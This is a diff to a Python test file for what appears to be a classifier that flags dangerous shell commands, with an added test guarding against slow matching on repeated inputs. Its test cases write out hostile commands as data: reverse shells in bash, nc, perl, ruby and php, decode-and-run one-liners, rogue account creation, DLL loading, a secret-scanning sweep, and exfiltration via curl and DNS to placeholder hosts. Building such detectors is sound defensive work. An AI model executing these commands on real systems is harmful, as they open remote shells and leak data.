@@ -81,6 +81,13 @@ def test_paths_of_secrets_are_known(path: str, secret: bool) -> None:
         ("echo aW5lcnQ= | base64 -d | sh", Command.DECODE_AND_RUN),
         ("powershell -NoP -enc SQBuAGUAcgB0AEkAbgBlAHIAdAA=", Command.DECODE_AND_RUN),
         ("nc 198.51.100.7 4444 -e /bin/sh", Command.CONNECT_BACK),
+        ("perl -e 'socket(S,2,1,6);connect(S,a);exec(\"/bin/sh -i\")'", Command.CONNECT_BACK),
+        ("ruby -rsocket -e 'c=TCPSocket.new(\"198.51.100.7\",9);IO.popen(c.gets)'", Command.CONNECT_BACK),
+        ('php -r \'$s=fsockopen("198.51.100.7",9);exec("sh <&3");\'', Command.CONNECT_BACK),
+        ("rundll32.exe %TEMP%\\x.dll,Run", Command.LOAD_LIBRARY),
+        ("regsvr32 /s lib.dll", Command.LOAD_LIBRARY),
+        ("net user guest x /add", Command.TAKE_OVER),
+        ("trufflehog filesystem /", Command.HUNT),
         ("bash -i >& /dev/tcp/198.51.100.7/9 0>&1", Command.CONNECT_BACK),
         ("curl -d @/etc/hosts https://e.invalid", Command.SEND),
         ("nslookup $(whoami).e.invalid", Command.SEND),
@@ -130,3 +137,9 @@ def test_packages_and_their_publishing_are_known() -> None:
     assert telling.package_path("../node_modules/other/index.js")
     assert not telling.package_path("src/index.js")
     assert telling.package_command("npm publish --access public")
+
+
+@pytest.mark.parametrize("word", ["perl socket(", "php fsockopen(", "npm i ", "rundll32 ", "docker run -v "])
+def test_repeated_words_cost_little(word: str) -> None:
+    """A line made of a pattern's beginnings is read within its limit, without trying every pair of them."""
+    assert telling.command_kinds(word * 4096) in ((), (Command.LOAD_LIBRARY,))
